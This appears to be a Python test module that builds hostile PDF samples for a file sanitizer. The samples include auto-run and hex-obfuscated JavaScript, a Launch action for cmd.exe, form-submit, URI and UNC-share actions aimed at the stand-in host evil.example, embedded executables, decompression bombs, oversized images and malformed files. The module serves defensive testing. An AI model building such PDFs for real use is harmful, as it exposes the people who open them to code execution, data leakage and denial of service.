"""Hostile PDF files."""

import io
import zlib

import pikepdf

from tests.evidence.hostile import made
from tests.files import office_bytes, pdf_bytes, stream, written


def _action(body: bytes) -> bytes:
    return pdf_bytes(root=b"/OpenAction 5 0 R", more={5: body})


@made("脚本.pdf", "active")
def javascript_on_opening():
    return _action(b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>")


@made("脚本.pdf", "active")
def javascript_with_its_name_in_hex():
    return _action(b"<</S/Java#53cript/J#53(app.alert\\(1\\))>>")


@made("脚本.pdf", "active")
def javascript_in_the_tree_of_names():
    return pdf_bytes(root=b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", more={5: b"<</JS(x)>>"})


@made("脚本.pdf", "active")
def javascript_when_a_page_is_turned():
    return pdf_bytes(page=b"/AA<</O<</S/JavaScript/JS(x)>>>>")


@made("脚本.pdf", "active")
def javascript_behind_a_link():
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/JavaScript/JS(x)>>>>"
    return pdf_bytes(page=b"/Annots[5 0 R]", more={5: link})


@made("脚本.pdf", "active")
def javascript_after_an_ordinary_action():
    return _action(b"<</S/GoTo/D[10 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>")


@made("压缩.pdf", "active")
def javascript_in_a_packed_object():
    opened = pikepdf.open(io.BytesIO(javascript_behind_a_link()))
    out = io.BytesIO()
    opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@made("启动.pdf", "active")
def launches_a_program():
    return _action(b"<</S/Launch/F(cmd.exe)>>")


@made("提交.pdf", "active")
def sends_a_form():
    return _action(b"<</S/SubmitForm/F(http://evil.example/)>>")


@made("导入.pdf", "active")
def imports_data():
    return _action(b"<</S/ImportData/F(x.fdf)>>")


@made("打开.pdf", "active")
def opens_an_address_on_opening():
    return _action(b"<</S/URI/URI(http://evil.example/)>>")


@made("转到.pdf", "active")
def goes_to_a_share():
    return _action(b"<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)/D[0/Fit]>>")


@made("媒体.pdf", "active")
def rich_media():
    return pdf_bytes(
        page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"}
    )


@made("电影.pdf", "active")
def a_film():
    return pdf_bytes(
        page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]>>"}
    )


@made("立体.pdf", "active")
def three_dimensions():
    return pdf_bytes(page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/3D/Rect[0 0 9 9]>>"})


@made("表单.pdf", "active")
def a_form_of_xml():
    return pdf_bytes(root=b"/AcroForm<</Fields[]/XFA 5 0 R>>", more={5: stream(b"<xdp/>")})


@made("夹带.pdf", "embedded")
def embedded_file():
    return pdf_bytes(
        root=b"/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>",
        more={5: b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
              6: stream(b"MZ", b"/Type/EmbeddedFile")},
    )  # fmt: skip


@made("夹带.pdf", "embedded")
def file_in_a_remark():
    note = b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 6 0 R>>>>>>"
    return pdf_bytes(page=b"/Annots[5 0 R]", more={5: note, 6: stream(b"MZ")})


@made("公文包.pdf", "embedded")
def a_portfolio():
    return pdf_bytes(root=b"/Collection<</View/D>>")


@made("外部.pdf", "reaches_out")
def content_from_another_file():
    return pdf_bytes(more={5: stream(b"", b"/F(\\\\\\\\evil.example\\\\x)")})


def _encrypted(**how) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_bytes())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(**how))
    return out.getvalue()


@made("加密.pdf", "encrypted")
def needs_a_password():
    return _encrypted(owner="a", user="b")


@made("加密.pdf", "encrypted")
def opens_without_its_password():
    return _encrypted(owner="a", user="")


@made("页数.pdf", "pages")
def far_too_many_pages():
    return pdf_bytes(pages=501)


@made("无页.pdf", "damaged")
def no_page():
    return written({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Count 0/Kids[]>>"})


@made("炸弹.pdf", "unpacks")
def unpacks_to_two_hundred_megabytes():
    packed = zlib.compress(bytes(1024 * 1024) * 220, 9)
    return pdf_bytes(more={5: stream(packed, b"/Filter/FlateDecode")})


@made("炸弹.pdf", "unpacks")
def packed_twice():
    packed = zlib.compress(zlib.compress(bytes(1024 * 1024) * 100, 9), 9)
    return pdf_bytes(more={5: stream(packed, b"/Filter[/FlateDecode/FlateDecode]")})


@made("炸弹.pdf", "damaged")
def a_table_of_objects_that_unpacks_without_end():
    packed = zlib.compress(b"1 0 " + bytes(1024 * 1024) * 100, 9)
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>",
               5: stream(packed, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")}  # fmt: skip
    return written(objects)


@made("像素.pdf", "pixels")
def a_picture_of_ten_thousand_million_points():
    image = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceGray"
    return pdf_bytes(more={5: stream(b"x", image + b"/BitsPerComponent 1")})


@made("嵌套.pdf", "damaged")
def nested_without_end():
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\n%%EOF\n"


@made("环.pdf", "damaged")
def pages_that_contain_themselves():
    return written({1: b"<</Type/Catalog/Pages 2 0 R>>",
                    2: b"<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>"})  # fmt: skip


@made("网页.pdf", "damaged")
def a_web_page():
    return b"<html><script>alert(1)</script></html>"


@made("网页.pdf", "damaged")
def a_web_page_before_the_paper():
    return b"<html><script>alert(1)</script>" + pdf_bytes()


@made("双面.pdf", "damaged")
def a_paper_that_is_an_archive_too():
    return pdf_bytes() + office_bytes({}) + b"%%EOF"


@made("断.pdf", "damaged")
def cut_off():
    return pdf_bytes()[:200]


@made("空壳.pdf", "damaged")
def head_and_tail_with_nothing_between():
    return b"%PDF-1.7\n1 0 obj\n%%EOF\n"
